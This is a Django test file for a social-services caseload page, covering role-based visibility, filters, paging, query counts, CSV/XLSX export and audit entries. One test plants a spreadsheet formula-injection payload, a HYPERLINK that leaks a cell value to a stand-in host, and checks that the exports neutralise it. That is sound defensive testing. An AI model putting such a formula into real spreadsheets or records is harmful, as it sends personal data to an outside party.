"""Mijn caseload (/clients/): visible clients only, filters, sorting, paging, export."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from audit.models import AuditAction, AuditEntry
from desk.views.caseload import SESSION_KEY
from tests.factories import (
    Article60PlacementFactory,
    IncomeRightFactory,
    ReferralFactory,
    TrajectoryFactory,
    VdabRegistrationFactory,
)

pytestmark = pytest.mark.django_db

URL = reverse("desk:caseload")
VALID_NN = "85073003328"  # born 30/07/1985


@pytest.fixture
def sa(client, staff):
    client.force_login(staff.users["sa"])
    return client


def names(response):
    return [row.record.last_name for row in response.context["table"].paginated_rows]


def full_client(staff, owner="sa", **kwargs):
    """A client with something running of every kind."""
    person = staff.client_of(owner, **kwargs)
    IncomeRightFactory(client=person, start_date=datetime.date(2024, 1, 1))
    TrajectoryFactory(client=person, start_date=datetime.date(2024, 2, 1))
    Article60PlacementFactory(
        client=person, start_date=datetime.date(2024, 3, 1), planned_end_date=None
    )
    VdabRegistrationFactory(client=person, registered_on=datetime.date(2024, 1, 15))
    ReferralFactory(client=person, start_date=datetime.date(2024, 3, 1))
    return person


def test_social_assistant_starts_with_their_own_clients(sa, staff):
    staff.client_of("sa", last_name="Mijn")
    staff.client_of("colleague", last_name="Collega")
    staff.client_of("other_sa", last_name="Ander")
    response = sa.get(URL)
    assert response.status_code == 200
    assert names(response) == ["Mijn"]


def test_the_whole_team_but_never_another_team(sa, staff):
    staff.client_of("sa", last_name="Mijn")
    staff.client_of("colleague", last_name="Collega")
    staff.client_of("other_sa", last_name="Ander")
    sa.post(URL, {"caseload": "team"})
    assert names(sa.get(URL)) == ["Collega", "Mijn"]


def test_a_team_lead_sees_the_team_and_can_filter_per_social_assistant(client, staff):
    staff.client_of("sa", last_name="Mijn")
    staff.client_of("colleague", last_name="Collega")
    staff.client_of("other_sa", last_name="Ander")
    client.force_login(staff.users["lead"])
    assert names(client.get(URL)) == ["Collega", "Mijn"]
    client.post(URL, {"caseload": "team", "social_worker": staff.workers["colleague"].pk})
    assert names(client.get(URL)) == ["Collega"]
    # A social worker of another team is not a valid choice: the filter is refused.
    client.post(URL, {"caseload": "team", "social_worker": staff.workers["other_sa"].pk})
    response = client.get(URL)
    assert "social_worker" in response.context["filter"].form.errors
    assert names(response) == ["Collega", "Mijn"]


def test_managers_have_no_caseload_list(client, staff):
    client.force_login(staff.users["manager"])
    assert client.get(URL).status_code == 403


def test_columns_show_what_runs_today(sa, staff):
    vol = full_client(staff, last_name="Vol")
    staff.client_of("sa", last_name="Leeg")
    html = sa.get(URL).content.decode()
    assert "leefloon (alleenstaande)" in html
    assert "sinds 01/02/2024" in html  # GPMI
    assert "sinds 01/03/2024" in html  # article 60
    assert "sinds 15/01/2024" in html  # VDAB
    assert "geen lopend GPMI" in html
    assert "geen lopend recht" in html
    assert "niet ingeschreven" in html
    # The next due action (the earliest item) links to the form that resolves it.
    referral = vol.referrals.get()
    assert "Resultaat toeleiding ontbreekt" in html
    assert f'href="/clients/{vol.pk}/referral/{referral.pk}/"' in html


def test_search_by_name_and_by_national_number_without_it_in_the_url(sa, staff):
    staff.client_of("sa", last_name="Peeters", first_name="An")
    staff.client_of(
        "sa",
        last_name="Janssens",
        birth_date=datetime.date(1985, 7, 30),
        national_number=VALID_NN,
    )
    response = sa.post(URL, {"caseload": "mine", "q": "peet"})
    assert response.status_code == 302
    assert response["Location"] == URL
    assert names(sa.get(URL)) == ["Peeters"]
    sa.post(URL, {"caseload": "mine", "q": "85.07.30-033.28"})
    response = sa.get(URL)
    assert names(response) == ["Janssens"]
    assert VALID_NN not in response.content.decode().replace("85.07.30-033.28", "")


def test_filter_on_status_flags_and_income_kind(sa, staff):
    full_client(staff, last_name="Vol")
    staff.client_of("sa", last_name="Leeg")
    sa.post(URL, {"caseload": "mine", "gpmi": "yes"})
    assert names(sa.get(URL)) == ["Vol"]
    sa.post(URL, {"caseload": "mine", "article60": "no"})
    assert names(sa.get(URL)) == ["Leeg"]
    sa.post(URL, {"caseload": "mine", "vdab": "yes"})
    assert names(sa.get(URL)) == ["Vol"]
    sa.post(URL, {"caseload": "mine", "income_kind": "none"})
    assert names(sa.get(URL)) == ["Leeg"]
    sa.post(URL, {"caseload": "mine", "income_kind": "leefloon"})
    assert names(sa.get(URL)) == ["Vol"]
    sa.post(URL, {"reset": "1"})
    assert names(sa.get(URL)) == ["Leeg", "Vol"]


def test_htmx_filter_returns_the_listing_only(sa, staff):
    staff.client_of("sa", last_name="Peeters")
    response = sa.post(URL, {"caseload": "mine", "q": "peet"}, headers={"HX-Request": "true"})
    html = response.content.decode()
    assert html.lstrip().startswith('<div id="caseload-listing">')
    assert "Peeters" in html
    assert sa.session[SESSION_KEY]["q"] == "peet"


def test_sorting_by_age(sa, staff):
    staff.client_of("sa", last_name="Oud", birth_date=datetime.date(1960, 1, 1))
    staff.client_of("sa", last_name="Jong", birth_date=datetime.date(2000, 1, 1))
    assert names(sa.get(URL + "?sort=age")) == ["Jong", "Oud"]
    assert names(sa.get(URL + "?sort=-age")) == ["Oud", "Jong"]


def test_paging_without_counting_the_whole_list(sa, staff):
    for i in range(30):
        staff.client_of("sa", last_name=f"Naam{i:02d}")
    with CaptureQueriesContext(connection) as queries:
        first = sa.get(URL)
    assert len(names(first)) == 25
    assert first.context["table"].page.has_next()
    assert not any("COUNT(" in q["sql"].upper() for q in queries.captured_queries)
    second = sa.get(URL + "?page=2")
    assert len(names(second)) == 5
    assert not second.context["table"].page.has_next()


def test_a_bad_page_number_is_not_an_error(sa, staff):
    staff.client_of("sa")
    assert sa.get(URL + "?page=abc").status_code in (200, 404)
    assert sa.get(URL + "?page=999").status_code in (200, 404)


@pytest.mark.parametrize("n", [5, 50])
def test_queries_per_page_do_not_grow_with_the_rows(sa, staff, n, django_assert_max_num_queries):
    for i in range(n):
        full_client(staff, last_name=f"Naam{i:02d}")
    sa.get(URL)  # session and caches warm
    # One query per work-queue rule (the status column), the appointment rule included.
    with django_assert_max_num_queries(23):
        response = sa.get(URL)
    assert len(names(response)) == min(n, 25)


def test_the_same_number_of_queries_for_5_and_50_rows(sa, staff):
    def count(n):
        for i in range(n):
            full_client(staff, last_name=f"N{count.total + i:03d}")
        count.total += n
        sa.get(URL)
        with CaptureQueriesContext(connection) as queries:
            sa.get(URL)
        return len(queries)

    count.total = 0
    assert count(5) == count(45)


def test_export_csv_and_xlsx_of_the_whole_selection(sa, staff):
    for i in range(30):
        staff.client_of("sa", last_name=f"Naam{i:02d}", national_number="")
    full_client(staff, last_name="Vol")
    response = sa.get(URL + "?export=csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert f"caseload-{timezone.localdate():%Y-%m-%d}.csv" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][0] == "Naam"
    assert len(rows) == 1 + 31
    vol = next(row for row in rows if row[0].startswith("Vol,"))
    assert "leefloon (alleenstaande)" in vol
    assert "Resultaat toeleiding ontbreekt (30/05/2024)" in vol

    response = sa.get(URL + "?export=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet.max_row == 1 + 31


EVIL = '=HYPERLINK("http://evil.example/?leak="&C2,"Open")'


def test_an_export_cell_is_never_a_formula(sa, staff):
    staff.client_of("sa", last_name=EVIL, first_name="@SUM(A1)", national_number="")
    content = sa.get(URL + "?export=csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content), delimiter=";"))
    name = rows[1][0]
    assert name.startswith("'=HYPERLINK(")
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)

    sheet = openpyxl.load_workbook(io.BytesIO(sa.get(URL + "?export=xlsx").content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert sheet.cell(row=2, column=1).value.startswith("'=HYPERLINK(")


def test_the_csv_opens_in_belgian_excel_with_columns_and_accents_or_plain_on_request(sa, staff):
    staff.client_of("sa", last_name="Yılmaz", first_name="Aydın", national_number="")
    content = sa.get(URL + "?export=csv").content
    # A byte order mark (Excel reads UTF-8 only after one) and ";" between the columns.
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8")[1:]), delimiter=";"))
    assert rows[0][:2] == ["Naam", "Leeftijd"]
    assert rows[1][0] == "Yılmaz, Aydın"
    assert all(len(row) == len(rows[0]) > 3 for row in rows)

    plain = sa.get(URL + "?export=csv&sep=comma").content.decode("utf-8")
    assert plain.startswith("Naam,Leeftijd,")
    assert '"Yılmaz, Aydın",' in plain


def test_export_contains_only_visible_clients(sa, staff):
    staff.client_of("sa", last_name="Mijn")
    staff.client_of("other_sa", last_name="Ander")
    sa.post(URL, {"caseload": "team"})
    content = sa.get(URL + "?export=csv").content.decode("utf-8-sig")
    assert "Mijn" in content
    assert "Ander" not in content


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_an_export_writes_one_summary_entry_and_one_per_client(sa, staff, export_format):
    for i in range(3):
        staff.client_of("sa", last_name=f"Naam{i}")
    staff.client_of("other_sa", last_name="Ander")
    sa.get(URL)
    assert not AuditEntry.objects.filter(action=AuditAction.EXPORT).exists()

    response = sa.get(URL + f"?export={export_format}", REMOTE_ADDR="192.0.2.9")

    assert response.status_code == 200
    [entry] = AuditEntry.objects.filter(action=AuditAction.EXPORT, client_id__isnull=True)
    per_client = AuditEntry.objects.filter(action=AuditAction.EXPORT, client_id__isnull=False)
    assert per_client.count() == 3
    assert entry.username == "sa"
    assert entry.object_type == "casework.client"
    assert entry.changes == {"format": export_format, "rows": 3}
    assert entry.source == f"page:{URL}"
    assert entry.address == "192.0.2.9"
    assert entry.client_id is None


def test_anonymous_goes_to_login(client):
    response = client.get(URL)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))
